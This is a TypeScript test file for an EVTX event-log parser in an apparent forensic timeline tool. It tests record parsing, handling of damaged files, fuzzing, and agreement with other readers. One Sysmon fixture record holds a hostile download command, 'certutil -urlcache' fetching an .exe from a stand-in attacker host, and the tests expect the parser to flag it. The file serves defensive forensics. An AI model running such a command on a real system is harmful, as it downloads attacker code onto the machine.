import { execFileSync } from 'node:child_process'
import { describe, expect, it } from 'vitest'
import { eventLog as makeLog } from '../../../../../test/harness/evidence/event-logs.ts'
import { fuzz, linesOf } from '../../../../../test/harness/evidence/fuzz.ts'
import {
  hasSamples,
  hasTool,
  printed,
  sample,
  samplePath,
  samplesBelow,
  whySkipped,
} from '../../../../../test/harness/evidence/samples.ts'
import { formats } from '../../formats.ts'
import { bytesSource } from '../../reader/source.ts'
import { readChunks } from './chunks.ts'
import { readEntry } from './entry.ts'
import { eventLog } from './event-log.ts'

const read = async (bytes: Buffer) => {
  const lines = await linesOf(formats, bytes)
  return {
    lines,
    rows: lines.flatMap((line) => (line.kind === 'row' ? [line.cells] : [])),
    events: lines.flatMap((line) => (line.kind === 'event' ? [line] : [])),
    seen: lines.flatMap((line) => (line.kind === 'observable' ? [`${line.type} ${line.value}`] : [])),
    warnings: lines.flatMap((line) => (line.kind === 'warning' ? [line.detail] : [])),
    refused: lines.find((line) => line.kind === 'refused'),
  }
}

const sysmon = { provider: 'Microsoft-Windows-Sysmon', id: 1, time: '2026-03-01T10:00:00.123Z', computer: 'PC-7' }
const sound = makeLog(
  [
    { ...sysmon, command: 'certutil -urlcache http://evil.example.net/a.exe' },
    { ...sysmon, id: 9999, address: '::ffff:198.41.0.4' },
  ],
  [{ ...sysmon, id: 22, command: 'läufer' }],
)

describe('an event log', () => {
  it('is read record by record, with what is worth a place in the timeline', async () => {
    const { lines, rows, events, seen, warnings, refused } = await read(sound)
    expect([warnings, refused]).toEqual([[], undefined])
    expect(lines[0]).toMatchObject({ kind: 'summary', format: 'evtx' })
    expect(rows).toMatchObject([
      {
        record: 1,
        time: '2026-03-01T10:00:00.123Z',
        level: 'information',
        event: 1,
        provider: 'Microsoft-Windows-Sysmon',
        channel: 'Security',
        computer: 'PC-7',
        sid: 'S-1-5-18',
        data: 'CommandLine: certutil -urlcache http://evil.example.net/a.exe\nIpAddress: ',
      },
      { record: 2, event: 9999 },
      { record: 3, event: 22, data: 'CommandLine: läufer\nIpAddress: ' },
    ])
    expect(events[0]).toMatchObject({
      what: 'Process started: certutil -urlcache http://evil.example.net/a.exe on PC-7',
      at: { offset: 4608, path: 'record 1' },
    })
    expect(seen).toEqual(['url http://evil.example.net/a.exe', 'ipv4 198.41.0.4'])
  })

  it('is gone past where it is damaged, which is told with its place', async () => {
    const broken = Buffer.from(sound)
    broken.write('XXXXXXX', 4096, 'latin1')
    expect(await read(broken)).toMatchObject({
      rows: [{ record: 3 }],
      warnings: ['The chunk at 4096 is damaged and was gone past.'],
    })
    const record = Buffer.from(sound)
    // The second record of the first chunk says it is longer than it is.
    const second = record.indexOf('**\0\0', 4096 + 520)
    record.writeUInt32LE(50, second + 4)
    const { rows, warnings } = await read(record)
    expect(rows).toMatchObject([{ record: 1 }, { record: 3 }])
    expect(warnings).toEqual([
      'The records of the chunk at 4096 do not have the checksum written there.',
      expect.stringContaining('Its two lengths disagree.'),
      expect.stringContaining('bytes were gone past'),
    ])
    expect((await read(sound.subarray(0, 4096 + 700))).warnings).toEqual(
      expect.arrayContaining([expect.stringContaining('The file ends within the chunk')]),
    )
    expect((await read(sound.subarray(0, 60))).refused).toMatchObject({ reason: 'damaged' })
  })

  it('does not unfold what unfolds without end', async () => {
    const looped = Buffer.from(sound)
    // The template's first value becomes markup, which holds the template again.
    const list = looped.indexOf(Buffer.from([8, 0, 0, 0]), 4096 + 600)
    looped.writeUInt8(0x21, list + 4 + 2)
    const { rows, refused } = await read(looped)
    expect([rows.length, refused]).toEqual([2, undefined])
  })

  it('bears mutated files', async () => {
    const small = makeLog([sysmon, { ...sysmon, command: 'x' }]).subarray(0, 4096 + 4096)
    const { faults, rounds, slowestMs } = await fuzz(eventLog, [small], { patienceMs: 2000 })
    expect(faults).toEqual([])
    expect(rounds).toBeGreaterThan(100)
    expect(slowestMs).toBeLessThan(1500)
  })
})

describe.skipIf(!hasSamples)(`real event logs${whySkipped()}`, () => {
  /** Where evtxexport reads less than there is: it stops at the first attribute of these. */
  const beyond: Record<string, string[]> = {
    'evtx/MSExchange_Management_wec.evtx': ['1'],
    'evtx/issue_201.evtx': ['1'],
  }
  /** A record of length 0 ends a chunk for it; what stands behind, it calls recovered. */
  const recovers = new Set(['evtx/sample-with-zero-data-size-event.evtx'])

  it.skipIf(!hasTool('evtxexport')).each(samplesBelow('evtx', '.evtx'))(
    'hold what evtxexport finds: %s',
    async (path) => {
      const theirs = [...exported(samplePath(path)), ...(beyond[path] ?? [])]
      const recovered = recovers.has(path) ? exported(samplePath(path), '-m', 'recovered') : []
      const { rows, refused } = await read(sample(path))
      expect(refused).toBeUndefined()
      expect(rows).toHaveLength(theirs.length + recovered.length)
      expect(new Set(idsOf(path))).toEqual(new Set([...theirs, ...recovered]))
    },
  )

  // By their place in the log: where it was exported, each keeps the number it had before.
  const idsOf = (path: string) =>
    [...readChunks(bytesSource(sample(path)), 4096)].flatMap((found) => ('record' in found ? [found.record.id] : []))

  function exported(path: string, ...mode: string[]): string[] {
    try {
      return [...printed('evtxexport', ...mode, path).matchAll(/^Event number\s*: (\d+)$/gm)].map((match) => match[1]!)
    } catch (error) {
      const { stdout } = error as { stdout: string }
      return [...stdout.matchAll(/^Event number\s*: (\d+)$/gm)].map((match) => match[1]!)
    }
  }

  it('hold what the expected snapshot of another reader says', () => {
    const archive = samplePath('evtx/omerbenamram-expected-snapshots.tar.xz')
    const name = 'tests/snapshots/test_record_samples__event_json_with_multiple_data_elements-2.snap'
    const text = execFileSync('tar', ['-xJOf', archive, name], { encoding: 'utf8' })
    const expected = JSON.parse(text.slice(text.indexOf('\n{'))) as {
      Event: {
        System: { EventRecordID: string; Computer: string; Channel: string }
        EventData: { Data: { '#text': string[] } }
      }
    }
    const [found] = [...readChunks(bytesSource(sample('evtx/MSExchange_Management_wec.evtx')), 4096)]
    const entry = readEntry((found as Extract<typeof found, { record: unknown }>).record)
    const { System, EventData } = expected.Event
    expect(entry).toMatchObject({ record: System.EventRecordID, computer: System.Computer, channel: System.Channel })
    expect(entry.data.map(([, value]) => value)).toEqual(EventData.Data['#text'])
  })

  it('hold the account that was created', async () => {
    const { events } = await read(sample('evtx/new-user-security.evtx'))
    expect(events.map(({ what }) => what)).toContain(
      'Account IE8Win7\\IEUser created by WORKGROUP\\WIN-QALA5Q3KJ43$ on IE8Win7',
    )
  })
})
